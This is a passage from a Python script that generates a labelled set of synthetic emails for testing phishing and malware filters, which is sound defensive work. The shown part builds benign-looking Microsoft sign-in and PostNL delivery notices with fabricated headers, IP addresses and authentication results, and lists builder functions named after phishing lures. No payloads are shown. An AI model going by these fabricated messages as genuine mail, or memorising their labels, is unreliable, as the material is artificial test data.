<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Country/region: <b>Spain</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">IP address: <b>88.26.141.17</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Date: <b>2/3/2026 9:11 PM (GMT)</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Platform: <b>Windows 10</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Browser: <b>Firefox</b></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.</td></tr>
<tr><td style="padding:0;padding-top:25px;"><table border="0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-color:#2672ec;padding:5px 20px;font-family:'Segoe UI Semibold','Segoe UI Bold',Arial,sans-serif;font-size:14px;"><a style="color:#fff;text-decoration:none;font-weight:600;" href="https://account.live.com/Activity">Review recent activity</a></td></tr></table></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">To opt out or change where you receive security notifications, <a style="color:#2672ec;text-decoration:none;" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table></body></html>
"""
    box = f"DM6PR11MB{digits(stem + 'box', 4)}"
    hops = [
        dkim(stem, dom, "selector1", sent, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
        rcv(f"from {box}.namprd11.prod.outlook.com (2603:10b6:5:{hexs(stem + 'v6', 3)}::{digits(stem + 'v6b', 2)}) by\n {box.replace('DM6', 'BN9')}.namprd11.prod.outlook.com (2603:10b6:408:{hexs(stem + 'v6c', 3)}::{digits(stem + 'v6d', 2)}) with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9{digits(stem + 'bld', 3)}.{digits(stem + 'bld2', 2)}", sent),
    ]
    headers = f"""From: Microsoft account team <account-security-noreply@{dom}>
To: {rcpt}
Subject: Microsoft account unusual sign-in activity
Date: {rfc(sent)}
Message-ID: <{alnum(stem + 'mid', 8, UPPERNUM)}.{digits(stem + 'mid2', 6)}.{hexs(stem + 'mid3', 8).upper()}@{box}.namprd11.prod.outlook.com>
MIME-Version: 1.0
X-MS-Exchange-SenderADCheck: 1
X-Message-Flag: Follow up"""
    emit(stem, "clean",
         "Genuine 'Microsoft account unusual sign-in activity' security notice from account-security-noreply@accountprotection.microsoft.com (SPF/DKIM/DMARC pass) with the masked address, sign-in details and account.live.com links.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=1), "40.107.236.78", "mail-dm6nam11on2078.outbound.protection.outlook.com", f"account-security-noreply@{dom}",
                 helo="NAM11-DM6-obe.outbound.protection.outlook.com",
                 dkim=[(dom, "selector1", "pass")], dmarc="pass", policy="REJECT", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem, "outlook")))


def l25_postnl_pakket() -> None:
    stem = "b50-legit-postnl-pakket-vandaag"
    rcpt = "f.vandermeer@hotmail.nl"
    sub = "notificatie.postnl.nl"
    sent = utc(2025, 5, 6, 6, 2, 50)
    code = "3SBOL" + digits(stem + "code", 10)
    click, opener = sfmc(stem, sub)
    link = f"https://jouw.postnl.nl/track-and-trace/{code}-NL-1075XK?utm_source=notificatie&utm_medium=email&utm_campaign=bezorgdag"
    plain = ("PostNL\n\nGoed nieuws! Je pakket van bol wordt vandaag bezorgd.\n\n"
             "Verwachte bezorging: dinsdag 6 mei, tussen 14:25 en 16:25 uur\n"
             f"Track & Trace: {code}\n\n"
             f"Volg je pakket: {link}\n\n"
             "Niet thuis? Je kunt je pakket tot 07:00 uur vandaag laten bezorgen bij een PostNL-punt of bij de buren.\n\n"
             "Met vriendelijke groet,\nPostNL\n\nDit is een automatisch verzonden e-mail, je kunt hier niet op reageren.\n")
    html = f"""<!DOCTYPE html><html lang="nl"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f3f5f9;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f5f9"><tr><td align="center" style="padding:16px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Arial,Helvetica,sans-serif;color:#2d2d2d;">
<tr><td style="padding:18px 24px;"><img src="https://image.{sub}/lib/fe3d15707564057c7c1d/m/1/postnl-logo.png" width="64" height="64" alt="PostNL" style="display:block;"></td></tr>
<tr><td style="padding:10px 24px;font-size:24px;font-weight:bold;color:#0e0e6f;">Goed nieuws! Je pakket van bol wordt vandaag bezorgd.</td></tr>
<tr><td style="padding:10px 24px;font-size:15px;line-height:22px;">Verwachte bezorging: <b>dinsdag 6 mei, tussen 14:25 en 16:25 uur</b><br>Track &amp; Trace: {code}</td></tr>
<tr><td style="padding:16px 24px;"><a href="{link}" style="background:#ed7000;color:#ffffff;padding:12px 26px;text-decoration:none;border-radius:20px;font-weight:bold;">Volg je pakket</a></td></tr>
<tr><td style="padding:6px 24px 20px 24px;font-size:14px;line-height:21px;">Niet thuis? Je kunt je pakket tot 07:00 uur vandaag <a href="{click(2)}" style="color:#ed7000;">laten bezorgen bij een PostNL-punt of bij de buren</a>.</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;line-height:16px;color:#777777;background:#f7f7f7;">Dit is een automatisch verzonden e-mail, je kunt hier niet op reageren. Vragen? Kijk op <a href="https://www.postnl.nl/klantenservice/" style="color:#ed7000;">postnl.nl/klantenservice</a>.<br>PostNL, Prinses Beatrixlaan 23, 2595 AK Den Haag</td></tr>
</table></td></tr></table>
<img src="{opener}" width="1" height="1" alt="">
</body></html>
"""
    env = f"bounce-{digits(stem + 'b1', 2)}_HTML-{digits(stem + 'b2', 9)}-{digits(stem + 'b3', 6)}-{digits(stem + 'b4', 7)}-{digits(stem + 'b5', 2)}@bounce.{sub}"
    hops = [dkim(stem, sub, "200608", sent, h="From:To:Subject:Date:MIME-Version:Reply-To:Message-ID:Content-Type")]
    headers = f"""From: PostNL <noreply@{sub}>
To: {rcpt}
Subject: Je pakket van bol wordt vandaag bezorgd
Date: {rfc(sent)}
MIME-Version: 1.0
Reply-To: PostNL <noreply@{sub}>
x-job: {digits(stem + 'j1', 7)}_{digits(stem + 'j2', 6)}
X-SFMC-Stack: 50
Message-ID: <{guid(stem + 'mid')}@ind1s50mta{digits(stem + 'mta', 4)}.xt.local>"""
    emit(stem, "clean",
         "Genuine Dutch PostNL 'je pakket van bol wordt vandaag bezorgd' delivery notice from notificatie.postnl.nl via Salesforce Marketing Cloud (all checks pass) with a jouw.postnl.nl track-and-trace link and no fee.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "13.111.170.22", f"mta.{sub}", env,
                 dkim=[(sub, "200608", "pass")], dmarc="pass", policy="REJECT", hfrom=sub, lang="nl"),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


# --------------------------------------------------------------------------
# build
# --------------------------------------------------------------------------

BUILDERS = [
    p01_netflix_payment_hold, p02_netflix_de_compromised, p03_disneyplus_sendgrid, p04_spotify_hotmail_short,
    p05_appleid_spoofed, p06_icloud_storage_gcs, p07_amazon_hold_workers, p08_amazon_de_qr_ses,
    p09_ebay_wordpress_phpmailer, p10_paypal_invoice_callback, p11_paypal_de_mailgun_ipfs, p12_chase_html_attachment,
    p13_wellsfargo_google_sites, p14_sparkasse_pushtan, p15_ing_pdf_link, p16_commerzbank_bing_redirect,
    p17_dhl_zoll_brevo, p18_usps_top, p19_royalmail_cpanel_tinyurl, p20_postnl_amp, p21_ezpass_toll_plain,
    p22_irs_mailcom_pdf, p23_hmrc_spoofed_gov, p24_elster_netlify, p25_metamask_mailjet, p26_ledger_sync,
    p27_coinbase_callback_gmail, p28_outlook_quota_azure, p29_gmx_postfach_jimdo, p30_yahoo_close_jotform,
    p31_aol_workspace_msforms, p32_costco_survey_cloudfront, p33_lidl_gcs_survey, p34_walmart_gift_firebase,
    p35_norton_invoice_pdf, p36_geeksquad_plain, p37_dating_opener_photo, p38_romance_de_hotmail,
    p39_sextortion_selfspoof, p40_sextortion_de_polish, p41_inheritance_barrister, p42_don_fr_gmail,
    p43_colissimo_fr, p44_amex_onmicrosoft_sharepoint,
    m45_rechnung_js_zip, m46_dhl_iso_lnk, m47_nebenkosten_docm, m48_amazon_html_smuggling,
    m49_photos_scr_discord, m50_zelle_pdf_exe_zip,
    l01_netflix_new_device, l02_netflix_newsletter, l03_apple_receipt, l04_icloud_storage_genuine,
    l05_amazon_shipped, l06_amazon_de_blackfriday, l07_paypal_de_payment, l08_dhl_sendung_heute,
    l09_ebay_order_confirmed, l10_sparkasse_postfach, l11_ing_newsletter, l12_chase_balance_alert,
    l13_wellsfargo_statement, l14_coinbase_received, l15_coinbase_newsletter, l16_spotify_wrapped,
    l17_disneyplus_neu, l18_lidl_newsletter, l19_costco_savings, l20_okcupid_message,
    l21_personal_urlaubsfotos, l22_personal_family_itinerary, l23_usps_informed_delivery,
    l24_microsoft_unusual_signin, l25_postnl_pakket,
]


def check(sample: Sample) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(sample.data)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{sample.stem}: missing {name}"
        str(msg[name])  # header values must parse
    assert msg.get_content_type().startswith(("multipart/", "text/")), f"{sample.stem}: odd top-level type"
    for part in msg.walk():
        if not part.is_multipart():
            part.get_content()  # every leaf must decode
    assert not msg.defects, f"{sample.stem}: defects {msg.defects}"


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    for build in BUILDERS:
        build()
    stems = [s.stem for s in SAMPLES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [s for s in SAMPLES if s.stem.startswith(f"b{N}-phish-")]
    legit = [s for s in SAMPLES if s.stem.startswith(f"b{N}-legit-")]
    assert len(attacks) == 50 and len(legit) == 25, (len(attacks), len(legit))
    lines = []
    for sample in SAMPLES:
        folder = REFILED.get(sample.stem, sample.folder)
        if sample.stem.startswith(f"b{N}-phish-"):
            assert folder in ("phishing", "malware"), sample.stem
        else:
            assert folder in ("clean", "bulk"), sample.stem
        check(sample)
        path = MAIL / folder / f"{sample.stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.data)
        lines.append(f"samples/mail/{folder}/{sample.stem}.eml | {folder} | {sample.description}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(SAMPLES)} messages and {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
